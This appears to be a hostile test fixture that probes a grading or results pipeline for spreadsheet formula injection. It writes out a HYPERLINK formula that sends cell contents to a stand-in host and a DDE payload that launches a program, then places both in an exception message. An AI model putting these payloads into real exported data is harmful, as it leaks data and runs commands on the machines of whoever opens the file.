# attack: formulas_for_a_spreadsheet
# kind: hostile
# tries: begins texts with the sign of a formula, for whoever opens a table of results in a spreadsheet
# seen: the formula stands in the page in its own quotation marks
# never: =HYPERLINK("http://127.0.0.1/?"&A1&B1&C1&D1&E1&F1&G1&H1&A2&B2&C2&D2&E2&F2&G2&H2&A3&B3&C3&D3&E3&F3&G3&H3&A4&B4&C4&D4&E4&F4&G4&H4&A5&B5&C5&D5&E5&F5&G5&H5","Click to see the points")
# deserves: nothing
# extra: before 3.2a
# %%
formula = '=HYPERLINK("http://127.0.0.1/?"&A1&B1&C1&D1&E1&F1&G1&H1&A2&B2&C2&D2&E2&F2&G2&H2&A3&B3&C3&D3&E3&F3&G3&H3&A4&B4&C4&D4&E4&F4&G4&H4&A5&B5&C5&D5&E5&F5&G5&H5","Click to see the points")'
program = '''=cmd|'/c calc'!A0'''
# every sign that a spreadsheet takes for the beginning of one
raise type(f'@SUM(1,1)*{program}', (Exception,), {})('\t' + formula + '\r\n+1-1\n-1+1\n' + program + ',",\n' + formula)
